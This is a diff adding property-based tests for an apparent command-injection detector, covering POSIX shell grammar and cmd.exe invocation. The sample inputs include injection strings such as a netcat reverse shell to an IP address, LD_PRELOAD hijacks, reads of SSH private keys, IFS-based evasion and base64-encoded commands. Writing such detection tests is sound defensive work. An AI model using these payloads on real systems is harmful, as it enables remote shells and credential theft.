@@ -156,6 +156,46 @@ describe("a value that is a command line", () => {
   });
 });
 
+describe("more of the POSIX grammar", () => {
+  it("assignments before the command word, $0 as the shell, IFS with an operator, $(<file), { …; }, here-strings", () => {
+    const sep = fc.constantFrom(";", "&&", "\n", "|");
+    fc.assert(
+      fc.property(
+        sep,
+        fc.constantFrom("PATH=/tmp", "LD_PRELOAD=/tmp/x.so", "a=1 b=2"),
+        fc.constantFrom("nc -e sh 198.51.100.1 9", "whoami", "id"),
+        (s, assign, command) => fires(`x${s}${assign} ${command}`),
+      ),
+    );
+    fc.assert(fc.property(sep, fc.constantFrom("-c id", "-i", "-c 'uname -a'"), (s, arg) => fires(`x${s}$0 ${arg}`)));
+    fc.assert(
+      fc.property(fc.constantFrom("${IFS%?}", "${IFS%%?}", "${IFS:0:1}", "${IFS##*}"), (ifs) =>
+        fires(`x;cat${ifs}/etc/hosts`),
+      ),
+    );
+    fc.assert(
+      fc.property(fc.constantFrom("flag.txt", "/etc/hosts", " ~/.ssh/id_rsa"), (f) => fires(`x;echo $(<${f})`)),
+    );
+    fc.assert(fc.property(sep, fc.constantFrom("id", "whoami", "ps"), (s, p) => fires(`x${s}{ ${p}; }`)));
+    fc.assert(
+      fc.property(fc.constantFrom("bash", "sh", "python3"), fc.constantFrom("id", "$(echo aWQ=|base64 -d)"), (i, c) =>
+        fires(`${i}<<<${c}`),
+      ),
+    );
+  });
+
+  it("cmd.exe: the interpreter named by a variable, told to run the rest", () => {
+    fc.assert(
+      fc.property(
+        fc.constantFrom("%comspec%", "cmd", "cmd.exe", "c:\\windows\\system32\\cmd.exe"),
+        fc.constantFrom("/c", "/k"),
+        fc.constantFrom("whoami", "dir", "type x"),
+        (interpreter, flag, command) => fires(`${interpreter} ${flag} ${command}`),
+      ),
+    );
+  });
+});
+
 describe("Windows and tool grammars", () => {
   it("cmd.exe: the command after an if condition, and for /l /f /d /r loops", () => {
     fc.assert(
